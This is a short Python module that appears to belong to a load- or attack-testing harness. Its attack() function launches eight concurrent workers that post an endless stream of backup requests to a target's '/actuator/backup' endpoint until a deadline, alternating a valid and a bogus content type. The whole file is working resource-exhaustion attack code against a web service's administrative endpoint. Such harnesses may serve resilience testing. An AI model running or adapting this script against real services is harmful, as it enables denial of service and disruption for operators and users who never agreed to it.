"""Backups without end."""
from swarm import READ, Swarm, post


def attack(target, deadline):
    def script(number):
        i = 0
        while True:
            i += 1
            body = f'{{"name":"b{number}-{i}"}}'.encode()
            kind = "application/json" if i % 2 else "nothing/known"
            yield post("/actuator/backup", len(body), kind) + body
            yield READ
    Swarm(target.http, 8, script, addresses=target.addresses).run(deadline)
